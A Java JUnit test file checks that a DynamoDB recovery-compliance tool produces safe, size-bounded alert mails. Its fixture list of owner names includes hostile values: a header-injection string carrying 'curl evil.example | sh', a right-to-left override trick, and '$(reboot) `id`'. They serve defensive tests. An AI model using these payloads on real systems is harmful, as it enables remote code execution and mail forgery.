package io.pitrguard.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.pitrguard.domain.evaluation.VerdictKind;
import io.pitrguard.domain.finding.FindingKind;
import io.pitrguard.domain.finding.Severity;
import io.pitrguard.domain.finding.TableEvent;
import io.pitrguard.domain.remediation.OutcomeKind;
import io.pitrguard.notify.Message;
import io.pitrguard.port.Alert;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Mail about whatever there may be: the longest names, all verdicts, owners of any script, hostile actors, 10,000 tables. */
class MailExtremesTest {
    private static final List<String> PEOPLE = List.of(
            "data",
            "購買チーム",
            "مالك البيانات",
            "בעלים",
            "Größe & Ærø <b>",
            "x".repeat(256),
            "bob\r\nSubject: forged\n   To do:          curl evil.example | sh",
            "\u202Egnp.exe\u2066\u200B",
            "🚀".repeat(60),
            "\u0000\u001B[2J$(reboot) `id`");

    private static final List<String> PARTITIONS = List.of(
            "aws:eu-west-1",
            "aws-cn:cn-north-1",
            "aws-us-gov:us-gov-west-1",
            "aws-eusc:eusc-de-east-1",
            "aws-iso:us-iso-east-1");

    private static final Pattern LINK = Pattern.compile("https://\\S+");

    static Stream<Long> seeds() {
        return IntStream.range(0, 60).mapToObj(seed -> (long) seed);
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void isSafeWhateverItIsAbout(long seed) {
        Random random = new Random(seed);
        List<MailFixture> tables = new ArrayList<>();
        int count = random.nextInt(10) == 0 ? 3_000 : random.nextInt(1, 12);
        for (int i = 0; i < count; i++) {
            tables.add(table(random));
        }

        for (Message message : SweepDigest.messages(view(tables))) {
            assertSafe(message);
        }
        assertSafe(MailGoldenTest.drift(table(random)));
    }

    @Test
    void saysOfTenThousandTablesHowManyAreLeftAndWhereTheyAre() {
        SweepView.TableView[] tables = IntStream.range(0, 10_000)
                .mapToObj(i -> MailFixture.table("t%05d".formatted(i) + "x".repeat(249))
                        .off()
                        .view())
                .toArray(SweepView.TableView[]::new);
        Message message = SweepDigest.of(Views.view(tables)).orElseThrow();

        assertSafe(message);
        assertThat(message.content().tables()).hasSize(10_000);
        int left = 10_000 - message.tables().size();
        assertThat(left).isPositive();
        assertThat(MailGoldenTest.mail(message))
                .contains(
                        "%,d more tables were left out of this mail because of its size. The log of the function has all of them, or run: ./pitr-guard sweep --region eu-west-1"
                                .formatted(left));
    }

    /** Each of them is one attribute of a message, and one subscriber can ask for it. */
    @Test
    void ownersGetTheirExemptionsAndAThousandOwnersDoNotMakeAThousandMails() {
        List<MailFixture> tables = IntStream.range(0, 1_000)
                .mapToObj(i -> MailFixture.table("t" + i)
                        .exempt("owner-" + i, "2026-11-29")
                        .ending())
                .toList();

        List<Message> messages = SweepDigest.messages(view(tables));

        assertThat(messages).hasSize(21);
        assertThat(messages.stream().flatMap(message -> message.tables().stream()))
                .doesNotHaveDuplicates();
        assertThat(messages.getFirst().alert().hasOwner()).isFalse();
        assertThat(messages.subList(1, 21)).allMatch(message -> message.alert().hasOwner());
    }

    private static SweepView view(List<MailFixture> tables) {
        return Views.view(tables.stream().map(MailFixture::view).toArray(SweepView.TableView[]::new));
    }

    private static MailFixture table(Random random) {
        String[] where = PARTITIONS.get(random.nextInt(PARTITIONS.size())).split(":");
        String name = random.nextInt(4) == 0 ? "-" + "n".repeat(254) : "t" + random.nextInt(100_000);
        MailFixture table =
                MailFixture.arn("arn:%s:dynamodb:%s:123456789012:table/%s".formatted(where[0], where[1], name));
        String person = PEOPLE.get(random.nextInt(PEOPLE.size()));
        switch (VerdictKind.values()[random.nextInt(VerdictKind.values().length)]) {
            case COMPLIANT ->
                table.event(TableEvent.Kind.CALL, Severity.HIGH, "recovery changed", "By " + person, person);
            case NON_COMPLIANT ->
                table.off().outcome(OutcomeKind.values()[random.nextInt(OutcomeKind.values().length)], person);
            case EXEMPT -> table.exempt(person, "2026-11-29").ending();
            case NOT_APPLICABLE -> table.resolved(FindingKind.RECOVERY_DISABLED);
            case UNDETERMINED -> table.unread();
        }
        return random.nextInt(5) == 0 ? table.reminder() : table;
    }

    private static void assertSafe(Message message) {
        Alert alert = message.alert();
        assertThat(alert.subject())
                .hasSizeLessThanOrEqualTo(99)
                .matches("[ -~]+")
                .startsWith("[pitr-guard] ");
        assertThat(AlertSize.bytes(alert)).isLessThanOrEqualTo(Alert.MAX_BYTES);
        String mail = String.valueOf(((Map<?, ?>) Json.parse(alert.message())).get("email"));
        assertThat(mail.codePoints().filter(c -> c != '\n').boxed().collect(Collectors.toSet()))
                .noneMatch(MailExtremesTest::hides);
        assertThat(mail.lines()).noneMatch(line -> line.strip().startsWith("Subject: forged"));
        assertThat(mail.lines().filter(line -> line.startsWith("   To do:")))
                .noneMatch(line -> line.contains("curl evil.example"));
        assertThat(mail.lines().skip(1).findFirst().orElseThrow()).matches("(No action|Action) needed: .+");
        assertLinks(mail);
        message.content().tables().forEach(table -> assertThat(table.toString()).doesNotContain("\n"));
    }

    private static boolean hides(int c) {
        int type = Character.getType(c);
        return type == Character.CONTROL
                || type == Character.LINE_SEPARATOR
                || type == Character.PARAGRAPH_SEPARATOR
                || (type == Character.FORMAT && c != 0x200D);
    }

    private static void assertLinks(String mail) {
        Matcher links = LINK.matcher(mail);
        while (links.find()) {
            URI link = URI.create(links.group());
            assertThat(link.getHost())
                    .matches(
                            "[a-z0-9-]+\\.(console\\.aws\\.amazon\\.com|console\\.amazonaws\\.cn|console\\.amazonaws-us-gov\\.com|console\\.amazonaws-eusc\\.eu)");
            String region = link.getHost().substring(0, link.getHost().indexOf('.'));
            assertThat(link.getQuery()).isEqualTo("region=" + region);
        }
    }
}
